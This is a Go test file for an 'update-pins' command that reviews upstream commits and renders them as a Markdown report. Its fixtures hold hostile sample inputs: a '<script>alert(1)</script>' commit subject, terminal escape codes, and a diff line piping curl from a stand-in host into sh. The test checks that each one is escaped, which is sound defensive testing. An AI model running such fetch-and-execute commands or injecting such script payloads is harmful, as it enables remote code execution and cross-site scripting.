package main

import (
	"os"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/mcpbuild/mcpbuild/source"
)

func TestUpdatePinsUsage(t *testing.T) {
	entry := writeEntry(t, "x", "name: x\n")
	for _, tt := range []struct {
		args []string
		in   string
	}{
		{[]string{"update-pins"}, "no PATTERN"},
		{[]string{"update-pins", "-o", "xml", entry}, `--output "xml"`},
		{[]string{"update-pins", "--max-commits", "0", entry}, "--max-commits 0"},
		{[]string{"update-pins", "--max-diff", "0", entry}, "--max-diff 0"},
		{[]string{"update-pins", "--source-mirror", "nope", entry}, "want FROM=TO"},
		{[]string{"update-pins", "servers/does-not-exist"}, "does-not-exist"},
		{[]string{"validate", "--source-mirror", "a=git://b/", entry}, "--source-mirror needs --remote"},
		{[]string{"validate", "--remote", "--source-mirror", "a=file:///b", entry}, "TO must start with"},
	} {
		_, _, code, err := run(t, tt.args...)
		if code != 2 || err == nil || !strings.Contains(err.Error(), tt.in) {
			t.Errorf("%v: exit %d, %v; want 2 and %q", tt.args, code, err, tt.in)
		}
	}
}

// TestUpdatePinsInvalidEntry: an invalid entry is a failed row (exit 1) and no remote is
// asked (its project points at a closed port).
func TestUpdatePinsInvalidEntry(t *testing.T) {
	entry := writeEntry(t, "x", "name: x\ntype: server\nsource:\n  project: git://127.0.0.1:1/x.git\n  commit: nope\n")
	out, _, code, _ := run(t, "update-pins", entry)
	if code != 1 || !strings.HasPrefix(out, "x failed\n  ") || !strings.Contains(out, "source.commit") {
		t.Errorf("update-pins on an invalid entry: exit %d\n%s", code, out)
	}
}

// TestPinUpdatesMarkdownGolden renders a report whose text from the remote tries to break
// out of the Markdown: pipes and HTML in a subject, backticks in the diff, a diff cut
// short, a range that is not a fast-forward, more commits than listed.
func TestPinUpdatesMarkdownGolden(t *testing.T) {
	date := time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
	rows := []pinUpdate{
		{Name: "memory", Path: "servers/memory/server.yaml", Status: pinUpdated, Remote: "https://github.com/example/servers.git", Branch: "main",
			Old: strings.Repeat("a", 40), New: strings.Repeat("b", 40),
			Review: &source.Review{Old: strings.Repeat("a", 40), New: strings.Repeat("b", 40), Ancestor: true, CommitsTotal: 4,
				Commits: []source.Commit{
					{Hash: strings.Repeat("b", 40), Author: "Eve <eve@example.invalid>", Date: date, Subject: "fix | <script>alert(1)</script> `x` **bold**"},
					{Hash: strings.Repeat("c", 40), Author: "Bob <bob@example.invalid>", Date: date.Add(-time.Hour), Subject: "deps: bump\x1b[31m red"},
					{Hash: strings.Repeat("9", 40), Author: "@octocat", Date: date.Add(-2 * time.Hour), Subject: "fixes #123, cc @example/team, reverts 0123456789abcdef0123456789abcdef01234567 and GH-7"},
				},
				Context: "src/memory", Dockerfile: "src/memory/Dockerfile", DockerfileChanged: true,
				Files:     []source.Change{{Status: "M", Path: "src/memory/Dockerfile"}, {Status: "M", Path: "src/memory/package-lock.json"}, {Status: "A", Path: "src/memory/a`b.ts"}},
				Manifests: []string{"src/memory/package-lock.json"},
				Diff:      "diff --git a/src/memory/Dockerfile b/src/memory/Dockerfile\n+RUN echo ```\n+RUN curl https://example.invalid | sh\n", DiffTruncated: true}},
		{Name: "rewritten", Path: "servers/rewritten/server.yaml", Status: pinWould, Remote: "git://example.invalid/r.git", Branch: "main",
			Old: strings.Repeat("d", 40), New: strings.Repeat("e", 40),
			Review: &source.Review{Old: strings.Repeat("d", 40), New: strings.Repeat("e", 40), Dockerfile: "Dockerfile"}},
		{Name: "tagged", Path: "servers/tagged/server.yaml", Status: pinLeft, Branch: "v1", Old: strings.Repeat("f", 40), Note: `"v1" is a tag, not a branch: the pin is left alone`},
		{Name: "evil @octocat #1", Path: "servers/evil/server.yaml", Status: pinFailed, Branch: "dev|#2",
			Problems: []string{"servers/evil/server.yaml:3:1: name: \"evil @octocat #1\" @admins see #4 0123456789abcdef0123456789abcdef01234567 <img src=x>"}},
		{Name: "current", Path: "servers/current/server.yaml", Status: pinCurrent, Branch: "main", Old: strings.Repeat("1", 40), New: strings.Repeat("1", 40)},
		{Name: "broken", Path: "servers/broken/server.yaml", Status: pinFailed, Problems: []string{`servers/broken/server.yaml:9:11: source.branch: branch "dev" does not exist on the remote`}},
	}
	got := pinUpdatesMarkdown(true, rows)
	const golden = "testdata/updatepins/report.md"
	if *update {
		if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if got != string(want) {
		t.Errorf("pinUpdatesMarkdown() =\n%s\nwant (%s)\n%s", got, golden, want)
	}
	// HTML ("<script>", "| <") is literal inside a code span: checked outside them below.
	for _, bad := range []string{"\x1b", "\n```\n+RUN curl"} {
		if strings.Contains(got, bad) {
			t.Errorf("report contains %q unescaped", bad)
		}
	}
	// Outside code spans and the diff block, nothing GitHub would link or render:
	// mentions, issue references, commit SHAs, HTML.
	inDiff := false
	linked := regexp.MustCompile(`@|#[0-9]|GH-[0-9]|[0-9a-f]{7,}|<`)
	for _, l := range strings.Split(got, "\n") {
		if strings.HasPrefix(l, "````") {
			inDiff = !inDiff
			continue
		}
		if out := outsideCodeSpans(l); !inDiff && linked.MatchString(out) {
			t.Errorf("line renders %q outside a code span: %q", linked.FindString(out), l)
		}
	}
}
